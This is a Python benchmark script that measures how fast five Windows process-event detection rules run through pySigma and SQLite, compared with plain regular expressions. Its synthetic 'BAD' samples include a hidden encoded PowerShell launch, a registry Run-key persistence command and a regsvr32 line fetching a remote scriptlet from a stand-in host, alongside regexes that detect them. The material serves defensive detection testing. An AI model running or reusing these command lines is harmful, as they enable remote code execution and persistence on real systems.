"""Events/s of evaluating the five detection families (pySigma -> SQLite), beside a plain-regex baseline.

Run: .venv/bin/python bench/detections.py [--events 200000]
Prints throughput of both in the same run and their ratio; no assertion on time.
"""

from __future__ import annotations

import argparse
import random
import re
import time

import pandas as pd

from auditplan.emit.api import detection_rules, evaluate_events

BENIGN = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\explorer.exe", "chrome.exe --type=renderer"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\svchost.exe",
     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Agent\inventory.ps1"),
    (r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\cmd.exe", r'reg query "HKLM\SOFTWARE\Microsoft"'),
    (r"C:\Users\bob\AppData\Local\Temp\{A1}\setup.exe", r"C:\Windows\explorer.exe", "setup.exe /quiet"),
]
BAD = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\cmd.exe", "powershell -w hidden -enc AA"),
    (r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\cmd.exe",
     r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v x /d C:\Users\Public\x.exe'),
    (r"C:\Windows\System32\regsvr32.exe", r"C:\Windows\explorer.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll"),
]
# The same five families written directly as Python regular expressions (the baseline).
BASELINE = [
    (re.compile(r"\\regsvr32\.exe$", re.I), re.compile(r"[-/]i:(http|ftp).*scrobj", re.I)),
    (re.compile(r"\\ftp\.exe$", re.I), re.compile(r"[-/]s:", re.I)),
    (re.compile(r"\\(powershell|pwsh)\.exe$", re.I), re.compile(r"(^|\s)[-/]w(i(n(d(o(w(s(t(y(l(e)?)?)?)?)?)?)?)?)?)?[\s:]+[\"']?(h(i(d(d(e(n)?)?)?)?)?|1)([\"']|\s|$)", re.I)),
    (re.compile(r":\\(users\\public|perflogs|windows\\temp|programdata)\\|\\appdata\\local\\temp\\|\\downloads\\", re.I), None),
    (re.compile(r"\\reg\.exe$", re.I), re.compile(r" add .*Software\\(WOW6432Node\\)?Microsoft\\Windows\\CurrentVersion\\Run", re.I)),
]
# Family 4's installer filter, so both sides count the same hits.
INSTALLER = re.compile(r"\\(setup|install|installer|unins000|dismhost)\.exe$", re.I)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=int, default=200_000)
    args = parser.parse_args()
    rng = random.Random(4688)
    rows = [BAD[rng.randrange(len(BAD))] if rng.random() < 0.001 else BENIGN[rng.randrange(len(BENIGN))]
            for _ in range(args.events)]
    events = pd.DataFrame(rows, columns=["new_process_name", "parent_process_name", "command_line"])
    events["host"] = [f"h{i % 500}" for i in range(len(events))]
    events["subject_user_name"] = "alice"
    events["event_id"] = 4688
    rules = detection_rules().rules

    t0 = time.perf_counter()
    result = evaluate_events(events, {}, rules)
    sigma_s = time.perf_counter() - t0
    t0 = time.perf_counter()
    baseline_hits = 0
    for image, _parent, cmd in rows:
        for image_re, cmd_re in BASELINE:
            if image_re.search(image) and (cmd_re.search(cmd or "") if cmd_re else not INSTALLER.search(image)):
                baseline_hits += 1
    base_s = time.perf_counter() - t0
    n = len(events)
    print(f"events: {n:,}; rules: {len(rules)}; hits: sigma {sum(r.hits for r in result.results):,}, "
          f"regex baseline {baseline_hits:,}")
    print(f"pySigma+SQLite (load + 5 queries): {sigma_s:.2f} s = {n / sigma_s:,.0f} events/s")
    print(f"plain-Python regex baseline:       {base_s:.2f} s = {n / base_s:,.0f} events/s")
    print(f"ratio sigma / baseline: {base_s / sigma_s:.2f}x (target >= 100,000 events/s)")


if __name__ == "__main__":
    main()
